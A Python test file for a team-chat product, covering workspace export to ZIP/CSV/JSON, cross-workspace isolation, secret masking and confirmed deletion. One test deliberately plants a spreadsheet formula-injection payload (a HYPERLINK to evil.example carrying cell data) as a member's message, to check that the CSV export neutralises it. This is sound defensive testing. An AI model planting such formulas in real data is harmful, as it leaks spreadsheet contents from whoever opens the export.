"""Issue #11: export a workspace and delete it, with a second workspace that must not notice.

On every backend: the cascades and the explicit deletes differ per database engine.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from typing import Any

import pytest
from sqlalchemy import func, select, tuple_

from teamassist.chat.models import InboundEvent
from teamassist.database import Base, transaction
from teamassist.exceptions import DomainError
from teamassist.http.auth import hash_password
from teamassist.outbox.models import OutboxMessage
from teamassist.runtime import Runtime
from teamassist.scheduler.models import JobDue, JobRun
from teamassist.team import service
from teamassist.team.archive import export_workspace, workspace_rows
from teamassist.team.models import LocalAccount, Workspace
from teamassist.team.workspaces import Founding, delete_workspace, derive_key, found
from tests.conftest import load_demo
from tests.support.chat import ChatDriver

DEMO_NAME = "演示社区 Demo Community"


def _two_workspaces(runtime: Runtime) -> None:
    """The demo, and 第二社区 (key ``second``) with a rotation, feedback, notices, job runs."""
    load_demo(runtime)
    with transaction(runtime.factory) as session:
        found(
            session,
            Founding(
                workspace_name="第二社区",
                workspace_key="second",
                team_name="二队",
                admin_handle="boss2",
                admin_name="二当家",
            ),
            password_hash=hash_password("second-password"),
        )
    demo, second = ChatDriver(runtime), ChatDriver(runtime, "second")
    demo.text("/问题反馈 演示社区的问题", as_="zhangsan")
    second.text("/值班人员增加 @boss2", as_="boss2")
    second.text("/问题反馈 第二社区的问题", as_="boss2")
    runtime.scheduler.tick()


def _workspace(runtime: Runtime, key: str) -> Workspace:
    with transaction(runtime.factory) as session:
        workspace = service.get_workspace_by_key(session, key=key)
        assert workspace is not None
        return workspace


def _rows(runtime: Runtime, key: str) -> dict[str, list[dict[str, Any]]]:
    with transaction(runtime.factory) as session:
        workspace = service.get_workspace_by_key(session, key=key)
        assert workspace is not None
        return workspace_rows(session, workspace)


def test_export_holds_every_row_of_the_workspace_and_nothing_else(runtime: Runtime) -> None:
    _two_workspaces(runtime)
    with transaction(runtime.factory) as session:
        demo = service.get_workspace_by_key(session, key="demo")
        assert demo is not None
        archive = export_workspace(session, workspace=demo, now=runtime.clock())
    files = zipfile.ZipFile(io.BytesIO(archive.data))
    names = set(files.namelist())
    assert {"workspace.json", "csv/member.csv", "csv/feedback_item.csv"} <= names
    assert {"csv/duty_rotation.csv", "csv/outbox_message.csv", "csv/job_run.csv"} <= names
    document = json.loads(files.read("workspace.json"))
    assert document["workspace"] == {"key": "demo", "name": DEMO_NAME}
    tables = document["tables"]
    assert sorted(m["handle"] for m in tables["member"]) == sorted(
        ["admin", "lihua", "zhangsan", "lisi", "wangwu", "zhaoliu", "sunqi"]
    )
    assert [w["key"] for w in tables["workspace"]] == ["demo"]
    assert any("演示社区的问题" in item["text"] for item in tables["feedback_item"])
    assert archive.rows == sum(len(rows) for rows in tables.values())
    everything = b"".join(files.read(name) for name in names).decode("utf-8")
    # nothing of the other workspace, and no secret
    assert "第二社区" not in everything and "boss2" not in everything
    assert "password_hash" not in everything and "$argon2" not in everything
    assert "token_hash" not in everything and "id_hash" not in everything
    assert "web_session" not in tables and "sign_in_link" not in tables
    # the dashboard account is there, without its hash
    assert [a["username"] for a in tables["local_account"]] == ["admin"]
    member_csv = files.read("csv/member.csv").decode("utf-8-sig")
    assert member_csv.splitlines()[0].startswith("id,") and "张三" in member_csv


def test_the_export_csv_quotes_a_formula_a_member_typed_and_the_json_keeps_it(
    sqlite_runtime: Runtime,
) -> None:
    """Tester s26 A-6: any member could plant a live spreadsheet formula in the admin's export
    (every other CSV of the product quotes such cells: teamassist.csvfile)."""
    load_demo(sqlite_runtime)
    demo = ChatDriver(sqlite_runtime)
    planted = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
    demo.text(f"/问题反馈 {planted}", as_="zhangsan")
    demo.text("/改名 @sunqi +孙七", as_="admin")
    with transaction(sqlite_runtime.factory) as session:
        workspace = service.get_workspace_by_key(session, key="demo")
        assert workspace is not None
        archive = export_workspace(session, workspace=workspace, now=sqlite_runtime.clock())
    files = zipfile.ZipFile(io.BytesIO(archive.data))
    items = list(
        csv.DictReader(io.StringIO(files.read("csv/feedback_item.csv").decode("utf-8-sig")))
    )
    assert [row["text"] for row in items if "HYPERLINK" in row["text"]] == ["'" + planted]
    members = list(csv.DictReader(io.StringIO(files.read("csv/member.csv").decode("utf-8-sig"))))
    assert [row["display_name"] for row in members if row["handle"] == "sunqi"] == ["'+孙七"]
    assert all(row["id"].isdigit() for row in members)  # numbers are left as they are
    tables = json.loads(files.read("workspace.json"))["tables"]
    assert planted in [item["text"] for item in tables["feedback_item"]]


def _remaining(runtime: Runtime, rows: dict[str, list[dict[str, Any]]]) -> dict[str, int]:
    """How many of these rows (by primary key) are still in the database, per table."""
    left: dict[str, int] = {}
    tables = Base.metadata.tables
    with transaction(runtime.factory) as session:
        for name, found_rows in rows.items():
            if not found_rows:
                continue
            table = tables[name]
            pk = list(table.primary_key.columns)
            ids = [tuple(row[c.name] for c in pk) for row in found_rows]
            left[name] = int(
                session.scalar(select(func.count()).select_from(table).where(tuple_(*pk).in_(ids)))
                or 0
            )
    return left


def test_delete_removes_everything_of_one_workspace_and_nothing_else(runtime: Runtime) -> None:
    _two_workspaces(runtime)
    demo = _workspace(runtime, "demo")
    demo_rows = _rows(runtime, "demo")
    second_before = _rows(runtime, "second")
    demo_teams = [row["id"] for row in demo_rows["team"]]
    with transaction(runtime.factory) as session:
        # what the delete must reach besides the cascades: claims, due times, inbox, notices
        for kept_by_team_id in (JobRun, JobDue):
            assert session.scalar(
                select(func.count())
                .select_from(kept_by_team_id)
                .where(kept_by_team_id.team_id.in_(demo_teams))
            )
        assert session.scalar(
            select(func.count()).select_from(InboundEvent).where(InboundEvent.tenant_key == "demo")
        )
        pending = session.scalar(
            select(func.count())
            .select_from(OutboxMessage)
            .where(OutboxMessage.workspace_id == demo.id, OutboxMessage.sent_at.is_(None))
        )
    assert {"member", "team", "duty_rotation", "feedback_item", "outbox_message"} <= {
        name for name, rows in demo_rows.items() if rows
    }

    with transaction(runtime.factory) as session:
        workspace = session.get(Workspace, demo.id)
        assert workspace is not None
        gone = delete_workspace(session, workspace=workspace, confirm=f"  {DEMO_NAME} ")
    assert (gone.key, gone.notices_cancelled) == ("demo", pending)
    assert gone.jobs_cancelled > 0

    assert {name: n for name, n in _remaining(runtime, demo_rows).items() if n} == {}
    assert _rows(runtime, "second") == second_before
    with transaction(runtime.factory) as session:
        assert service.get_workspace_by_key(session, key="demo") is None
        assert session.scalar(select(LocalAccount.username)) == "boss2"
        for kept_by_team_id in (JobRun, JobDue):
            assert not session.scalar(
                select(func.count())
                .select_from(kept_by_team_id)
                .where(kept_by_team_id.team_id.in_(demo_teams))
            )
        assert not session.scalar(
            select(func.count()).select_from(InboundEvent).where(InboundEvent.tenant_key == "demo")
        )
    # the other workspace goes on working
    assert "二当家" in ChatDriver(runtime, "second").text("/我是谁", as_="boss2")


def test_delete_needs_the_exact_name_and_changes_nothing_otherwise(runtime: Runtime) -> None:
    _two_workspaces(runtime)
    before = _rows(runtime, "demo")
    for wrong in ("", "demo", "演示社区", "second"):
        with pytest.raises(DomainError) as refused, transaction(runtime.factory) as session:
            workspace = service.get_workspace_by_key(session, key="demo")
            assert workspace is not None
            delete_workspace(session, workspace=workspace, confirm=wrong)
        assert refused.value.key == "setup.error.confirm_mismatch"
        assert DEMO_NAME in refused.value.message()
    assert _rows(runtime, "demo") == before


@pytest.mark.parametrize(
    ("name", "key"),
    [
        ("开源社区", "kai-yuan-she-qu"),
        ("重庆开发者", "chong-qing-kai-fa-zhe"),
        ("Rust 中文社区!", "rust-zhong-wen-she-qu"),
        ("Café Crème", "cafe-creme"),
        ("🚀🚀", "workspace"),
        ("   ", "workspace"),
        ("一" * 100, "-".join(["yi"] * 19)),  # cut at 56 characters, on a syllable
    ],
)
def test_a_key_derived_from_any_name_is_valid(name: str, key: str) -> None:
    derived = derive_key(name)
    assert derived == key
    assert len(derived) <= 56 and derived[0].isalnum() and derived[-1].isalnum()


def test_teams_of_one_workspace_get_unique_keys(sqlite_runtime: Runtime) -> None:
    from teamassist.team.workspaces import add_team

    load_demo(sqlite_runtime)
    with transaction(sqlite_runtime.factory) as session:
        demo = service.get_workspace_by_key(session, key="demo")
        assert demo is not None
        first = add_team(session, workspace=demo, name="产品组", timezone="Europe/Paris")
        second = add_team(session, workspace=demo, name="产品组！", timezone="UTC")
        with pytest.raises(DomainError):
            add_team(session, workspace=demo, name="x", timezone="Nowhere/City")
        keys = [t.key for t in service.get_teams(session, workspace_id=demo.id)]
    assert (first.key, second.key) == ("chan-pin-zu", "chan-pin-zu-2")
    assert keys == ["community", "chan-pin-zu", "chan-pin-zu-2"]


def test_export_masks_the_sign_in_links_that_messages_carry(runtime: Runtime) -> None:
    load_demo(runtime)
    reply = ChatDriver(runtime).text("/登录", as_="zhangsan")
    token = re.search(r"/auth/link/([\w-]+)", reply)
    assert token, reply
    with transaction(runtime.factory) as session:
        demo = service.get_workspace_by_key(session, key="demo")
        assert demo is not None
        archive = export_workspace(session, workspace=demo, now=runtime.clock())
    files = zipfile.ZipFile(io.BytesIO(archive.data))
    everything = b"".join(files.read(name) for name in files.namelist()).decode("utf-8")
    assert token.group(1) not in everything  # the link is still live: it would sign them in
    # the event is kept, its texts blanked with every transcript's (test_export_transcripts)
    assert "csv/inbound_event.csv" in files.namelist()
    assert "/auth/link" not in everything
